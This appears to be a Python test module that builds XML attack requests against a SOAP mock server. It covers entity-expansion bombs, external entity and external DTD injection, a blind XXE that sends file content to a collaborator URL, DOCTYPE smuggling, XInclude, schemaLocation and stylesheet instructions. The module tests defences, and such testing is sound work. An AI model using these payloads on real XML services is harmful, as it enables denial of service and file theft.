"""A80 to A86: document type declarations, inclusion, schema locations, instructions. Nothing is expanded or fetched."""

from collections.abc import Callable
from typing import Final

from lxml import etree

from mockserver.namespaces import WSU, XSI
from tests.attacks.catalogue import Request, attack, harmless
from tests.attacks.collaborator import collaborator
from tests.attacks.forgery import FOREIGN, find
from tests.conftest import Mock
from tests.forge import Forge

XI: Final = "http://www.w3.org/2001/XInclude"

LAUGHS: Final = "".join(
    f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' if level else '<!ENTITY lol0 "lol">' for level in range(10)
)
QUADRATIC: Final = f'<!ENTITY big "{"a" * 100_000}">'


def with_doctype(doctype: str, reference: str | None = None) -> Callable[[Mock], bytes]:
    """A valid message behind a DOCTYPE; `reference` stands in LastName, where an expansion would show."""

    def build(mock: Mock) -> bytes:
        forge = mock.forge()
        if reference is not None:
            find(forge.operation, "LastName").text = "REFERENCE"
            forge.sign()
        own = doctype.replace("FILE", collaborator().file_url).replace("HTTP", collaborator().url())
        return own.encode() + forge.octets().replace(b"REFERENCE", (reference or "").encode())

    return build


def declared(attack_id: str, title: str, subset: str, reference: str | None = None) -> None:
    """Register an attack with a DOCTYPE."""
    build = with_doctype(f"<!DOCTYPE {subset}>", reference)
    attack(attack_id, soa="SOA-03004", rules=("Q32",), seconds=1.0, title=title)(build)


declared("A80", "Billion laughs: ten entities, each ten times the one before", f"x [{LAUGHS}]", "&lol9;")
declared("A80-quadratic", "One long entity, a thousand times", f"x [{QUADRATIC}]", "&big;" * 1000)
declared("A80-unused", "Billion laughs that nobody refers to", f"x [{LAUGHS}]")
declared("A80-recursive", "An entity that contains itself", 'x [<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;")
declared(
    "A80-parameter",
    "Parameter entities that grow",
    "x [<!ENTITY % a '" + "a" * 1000 + "'><!ENTITY % b '" + "&#37;a;" * 1000 + "'>%b;]",
)

declared("A81", "An external entity that is a file", 'x [<!ENTITY e SYSTEM "FILE">]', "&e;")
declared("A81-http", "An external entity over HTTP", 'x [<!ENTITY e SYSTEM "HTTP">]', "&e;")
declared("A81-public", "An external entity with a public identifier", 'x [<!ENTITY e PUBLIC "-//x" "HTTP">]', "&e;")
declared("A81-parameter", "An external parameter entity", 'x [<!ENTITY % e SYSTEM "HTTP"> %e;]')
declared("A81-dtd", "An external DTD over HTTP", 'x SYSTEM "HTTP"')
declared("A81-dtd-file", "An external DTD that is a file", 'x SYSTEM "FILE"')
declared("A81-dtd-public", "An external DTD with a public identifier", 'x PUBLIC "-//x" "HTTP"')
declared(
    "A81-blind",
    "A file whose content would be sent away in a URL",
    'x [<!ENTITY % f SYSTEM "FILE"><!ENTITY % d "<!ENTITY s SYSTEM \'HTTP/&#37;f;\'>"> %d;]',
    "&s;",
)

declared("A82", "An empty DOCTYPE", "soap:Envelope")
declared("A82-subset", "An empty internal subset", "soap:Envelope []")


def before(attack_id: str, title: str, prolog: bytes, *, soa: str = "SOA-03004", rule: str = "Q32") -> None:
    """Register an attack with these bytes before a valid message."""

    def build(mock: Mock) -> bytes:
        return prolog + mock.forge().octets()

    attack(attack_id, soa=soa, rules=(rule,), title=title)(build)


_BOM: Final = b"\xef\xbb\xbf"
_EMPTY: Final = b"<!DOCTYPE a>"

before("A82-declaration", "A DOCTYPE behind an XML declaration", b'<?xml version="1.0"?>\r\n' + _EMPTY)
before("A82-comment", "A DOCTYPE behind a comment that looks like its end", b"<!-- <!DOCTYPE -->" + _EMPTY)
before("A82-instruction", "A DOCTYPE behind a processing instruction", b"<?a ?b>?>" + _EMPTY)
before("A82-blanks", "A DOCTYPE behind half a megabyte of blanks", b" \t\r\n" * 130_000 + _EMPTY)
before("A82-comments", "A DOCTYPE behind 50 000 comments", b"<!---->" * 50_000 + _EMPTY)
before("A82-bom", "A DOCTYPE behind a byte order mark", _BOM + _EMPTY)
# A parser that gets the text without the first mark skips the second: what looks for a DOCTYPE must not differ.
before("A82-two-boms", "A DOCTYPE behind two byte order marks", _BOM * 2 + _EMPTY, soa="SOA-03001", rule="Q20")
before("A82-lower-case", "A doctype in lower case, which is no markup", b"<!doctype a>", soa="SOA-03001", rule="Q20")
before("A82-twice", "Two DOCTYPEs", _EMPTY * 2)
before("A82-open", "A DOCTYPE that does not end", b"<!DOCTYPE a [")


@attack("A82-utf-16", soa="SOA-03004", rules=("Q32",))
def doctype_in_utf_16(mock: Mock) -> Request:
    """A DOCTYPE in UTF-16"""
    body = "<!DOCTYPE a>" + mock.forge().octets().decode()
    return Request(body.encode("utf-16"), _with_charset(mock, "utf-16"))


@attack("A82-two-boms-utf-16", soa="SOA-03001", rules=("Q20",))
def doctype_behind_two_boms_in_utf_16(mock: Mock) -> Request:
    """A DOCTYPE behind two byte order marks in UTF-16"""
    body = "\ufeff<!DOCTYPE a>" + mock.forge().octets().decode()
    return Request(body.encode("utf-16"), _with_charset(mock, "utf-16"))


@attack("A82-inside", soa="SOA-03001", rules=("Q20",))
def doctype_inside(mock: Mock) -> bytes:
    """A DOCTYPE in the Header, where XML has none"""
    return mock.forge().octets().replace(b"<SOAP-ENV:Header>", b"<SOAP-ENV:Header><!DOCTYPE a>", 1)


@harmless("A82-cdata")
def doctype_in_cdata(mock: Mock) -> bytes:
    """The word in a comment and in CDATA is text"""
    decoy = b'<x xmlns="urn:x"><!-- <!DOCTYPE a> --><![CDATA[<!DOCTYPE a>]]></x>'
    return mock.forge().octets().replace(b"<SOAP-ENV:Header>", b"<SOAP-ENV:Header>" + decoy, 1)


declared(
    "A83",
    "The wsu:Id of Body by default of an ATTLIST",
    f'x [<!ATTLIST SOAP-ENV:Body wsu:Id CDATA "default" xmlns:wsu CDATA "{WSU}">]',
)
declared("A83-id", "An attribute declared as ID", "x [<!ATTLIST Block ref ID #IMPLIED>]")
declared(
    "A83-notation",
    "A notation and an unparsed entity",
    'x [<!NOTATION n SYSTEM "HTTP"><!ENTITY e SYSTEM "FILE" NDATA n>]',
)


def include(href: str, parse: str = "text") -> etree._Element:
    return etree.Element(f"{{{XI}}}include", href=href, parse=parse)


@attack("A84", soa="SOA-01001", rules=("S22",))
def include_in_body(mock: Mock) -> Forge:
    """An XInclude of a file in LastName, after signing"""
    forge = mock.forge()
    find(forge.operation, "LastName").append(include(collaborator().file_url))
    return forge


@attack("A84-signed", soa="SOA-03006", rules=("X01",))
def include_in_body_signed(mock: Mock) -> Forge:
    """An XInclude of a file in LastName, signed by the holder"""
    return include_in_body(mock).sign()  # type: ignore[union-attr]


@attack("A84-http", soa="SOA-03006", rules=("X01",))
def include_over_http(mock: Mock) -> Forge:
    """An XInclude over HTTP in Criteria, signed by the holder"""
    forge = mock.forge()
    find(forge.operation, "Criteria").append(include(collaborator().url(), "xml"))
    return forge.sign()


@attack("A84-whole", soa="SOA-03002", rules=("Q30",))
def include_as_document(mock: Mock) -> bytes:
    """An XInclude instead of the Envelope"""
    return etree.tostring(include(collaborator().file_url))


@attack("A84-token", soa="SOA-01001", rules=("H01",))
def include_instead_of_the_token(mock: Mock) -> Forge:
    """An XInclude of the token"""
    forge = mock.forge()
    forge.security.replace(forge.assertion, include(collaborator().url(), "xml"))
    return forge


@harmless("A84-header")
def include_in_header(mock: Mock) -> Forge:
    """An XInclude in a header block that nobody reads stays as it is"""
    forge = mock.forge()
    etree.SubElement(forge.header, f"{{{FOREIGN}}}Block").append(include(collaborator().file_url))
    return forge


@harmless("A85")
def schema_location(mock: Mock) -> Forge:
    """Locations of schemas on the request element are not looked up: the contract's schema is the one"""
    forge = mock.forge()
    url = collaborator().url()
    forge.operation.set(f"{{{XSI}}}schemaLocation", f"{etree.QName(forge.operation).namespace} {url}")
    forge.operation.set(f"{{{XSI}}}noNamespaceSchemaLocation", collaborator().file_url)
    return forge.sign()


@harmless("A85-envelope")
def schema_location_of_the_envelope(mock: Mock) -> Forge:
    """Nor are those on the Envelope"""
    forge = mock.forge()
    forge.root.set(f"{{{XSI}}}schemaLocation", f"http://schemas.xmlsoap.org/soap/envelope/ {collaborator().url()}")
    return forge


@attack("A85-invalid", soa="SOA-03006", rules=("X01",))
def schema_location_that_would_allow(mock: Mock) -> Forge:
    """A location whose schema would allow what the contract's does not"""
    forge = schema_location(mock)
    assert isinstance(forge, Forge)
    etree.SubElement(find(forge.operation, "Criteria"), f"{{{FOREIGN}}}Extra")
    return forge.sign()


before("A86", "A stylesheet in the prolog", b'<?xml-stylesheet href="x.xsl" type="text/xsl"?>', rule="Q33")


@attack("A86-inside", soa="SOA-03004", rules=("Q33",))
def stylesheet_inside(mock: Mock) -> Forge:
    """A stylesheet in the Header, whose address is ours"""
    forge = mock.forge()
    forge.header.append(etree.ProcessingInstruction("xml-stylesheet", f'href="{collaborator().url()}"'))
    return forge


@attack("A86-value", soa="SOA-03004", rules=("Q33",))
def instruction_in_value(mock: Mock) -> Forge:
    """An instruction in LastName, which a reader of the first text would end at, signed by the holder"""
    forge = mock.forge()
    instruction = etree.ProcessingInstruction("x")
    instruction.tail = "EVIL"
    find(forge.operation, "LastName").append(instruction)
    return forge.sign()


def _with_charset(mock: Mock, charset: str) -> list[tuple[str, str]]:
    return [
        (name, f"text/xml; charset={charset}" if name == "Content-Type" else value) for name, value in mock.fields()
    ]
